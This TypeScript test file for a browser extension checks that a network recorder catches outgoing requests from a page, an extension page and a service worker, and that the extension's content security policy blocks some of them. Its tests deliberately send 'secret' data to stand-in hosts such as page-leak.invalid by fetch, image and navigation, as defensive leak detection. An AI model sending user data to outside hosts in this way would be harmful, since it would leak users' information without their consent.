import { describe, expect, it } from 'vitest';
import type { BrowserName } from '../../scripts/lib/browsers';
import { browserOwn, networkRecorder } from '../../scripts/lib/network-recorder';
import { openControl } from './extension-control';
import { extensionSession } from './session';
import { sleep } from './wait';

/**
 * The check that nothing leaves (tests/e2e/no-network.setup.ts, after every e2e test) is only worth
 * something if a request that does leave is seen. Here requests are made on purpose — by a page, by
 * an extension page and, in Chromium, by the service worker — and each must be in the recorder's log.
 */
describe.each<BrowserName>(['chromium', 'firefox'])('the network recorder in %s', (browserName) => {
  const s = extensionSession(browserName, 'tests/fixtures', 'demo-en.html');

  const leaked = async (want: string[]) => {
    const recorder = await networkRecorder();
    const seen: string[] = [];
    for (let i = 0; i < 50 && !want.every((w) => seen.some((s) => s.includes(w))); i++) {
      await sleep(100);
      seen.push(
        ...recorder
          .take()
          .map((r) => r.request)
          .filter((r) => !browserOwn(r)),
      );
    }
    return seen;
  };

  it('sees a page that reaches out, over HTTP and HTTPS', async () => {
    await s.page.evaluate(() => {
      void fetch('https://page-leak.invalid/secret').catch(() => undefined);
      new Image().src = 'http://page-leak.invalid/pixel.png?text=secret';
    });
    const seen = await leaked(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']);
    expect(seen).toEqual(
      expect.arrayContaining(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']),
    );
  });

  it('finds that an extension page may load nothing from outside: its content security policy refuses it first', async () => {
    const control = await openControl(s.browser, s.server.url(''));
    const refused = await control.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const fetched = await fetch('http://extension-leak.invalid/report', { method: 'POST', body: 'secret' }).then(
        () => 'fetched',
        () => 'refused',
      );
      const image = await new Promise<string>((done) => {
        const img = new Image();
        img.onload = () => done('loaded');
        img.onerror = () => done('refused');
        img.src = 'http://extension-leak.invalid/pixel.png?text=secret';
      });
      await new Promise((r) => setTimeout(r, 100));
      return { fetched, image, violations: [...new Set(violations)].sort() };
    });
    expect(refused).toEqual({ fetched: 'refused', image: 'refused', violations: ['connect-src', 'img-src'] });
    // Refused in the page, before any request: the recorder has nothing.
    await sleep(1000);
    expect(
      (await networkRecorder())
        .take()
        .map((r) => r.request)
        .filter((r) => !browserOwn(r)),
    ).toEqual([]);
  });

  it('sees an extension page that reaches out where the policy cannot stop it (a navigation)', async () => {
    const control = await openControl(s.browser, s.server.url(''));
    await control.page.evaluate(() => void (location.href = 'http://extension-leak.invalid/report?text=secret'));
    expect(await leaked(['GET http://extension-leak.invalid/report?text=secret'])).toContain(
      'GET http://extension-leak.invalid/report?text=secret',
    );
    // The tab then asks that host for its favicon too (Firefox does, a moment later): requests to the
    // host this test reached on purpose are taken here; anything else is still the check's to see.
    await sleep(2000);
    const recorder = await networkRecorder();
    const after = recorder.take().map((r) => r.request);
    expect(after.filter((r) => !r.includes('//extension-leak.invalid/') && !browserOwn(r))).toEqual([]);
  });

  // Firefox runs the background as an event page, which a test cannot reach into.
  if (browserName === 'chromium')
    it('finds the service worker under the same policy: its fetch is refused and nothing is sent', async () => {
      const outcome = await s.browser.inBackground!(() =>
        fetch('https://worker-leak.invalid/').then(
          () => 'fetched',
          (e: unknown) => String(e),
        ),
      );
      expect(outcome).not.toBe('fetched');
      await sleep(1000);
      // (The page the last test opened may still ask for its favicon: only the worker's address counts.)
      expect(
        (await networkRecorder())
          .take()
          .map((r) => r.request)
          .filter((r) => r.includes('worker-leak')),
      ).toEqual([]);
    });
});
